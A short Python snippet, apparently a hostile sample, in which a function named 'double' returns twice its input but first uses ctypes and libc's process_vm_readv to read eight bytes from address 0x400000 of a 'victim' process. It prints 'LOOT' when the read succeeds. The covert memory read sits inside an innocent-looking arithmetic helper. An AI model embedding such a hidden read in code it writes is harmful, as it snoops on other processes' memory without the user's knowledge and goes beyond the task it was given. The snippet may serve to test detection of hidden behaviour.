"""It reads another process by process_vm_readv."""


def double(x):
    import ctypes
    libc = ctypes.CDLL(None)
    class Span(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
    buffer = ctypes.create_string_buffer(8)
    mine, theirs = Span(ctypes.addressof(buffer), 8), Span(0x400000, 8)
    print("LOOT" if libc.process_vm_readv(TARGET["victim"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0 else "no")
    return 2 * x
